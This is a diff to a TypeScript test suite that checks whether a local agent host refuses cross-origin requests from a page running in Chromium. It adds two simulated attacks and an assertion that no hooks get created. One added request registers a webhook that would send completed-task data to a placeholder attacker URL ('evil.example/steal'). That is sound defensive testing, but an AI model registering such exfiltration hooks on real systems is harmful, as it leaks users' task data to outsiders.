@@ -34,6 +34,8 @@ function attacks(folder: string): { method: string; path: string; body: unknown 
     { method: 'POST', path: '/v1/a2a', body: { jsonrpc: '2.0', id: 1, method: 'message/send', params: { message: { kind: 'message', messageId: 'x-2', role: 'user', parts: [{ kind: 'text', text: 'x' }] } } } },
     { method: 'POST', path: '/v1/message:send', body: { message } },
     { method: 'POST', path: '/workers/register', body: { workerId: 'evil', name: 'evil', codebases: ['app'], agents: ['echo'], concurrency: 1 } },
+    { method: 'POST', path: '/v1/hooks', body: { event: 'task.completed', targetUrl: 'https://evil.example/steal' } },
+    { method: 'DELETE', path: '/v1/hooks/any', body: undefined },
   ];
 }
 
@@ -79,6 +81,7 @@ describe('a page on another origin, in real Chromium', () => {
     expect(sync.state).toBe('not-paired');
     expect(existsSync(join(env.dataDir, 'config.json'))).toBe(false);
     expect(env.host.tasks.list({ pageSize: 100 }).tasks).toHaveLength(0);
+    expect(env.host.hooks.list()).toEqual([]);
   });
 
   it('is refused with 403 and a reason the host states, while the monitor\'s own page and clients without an Origin still work', async () => {
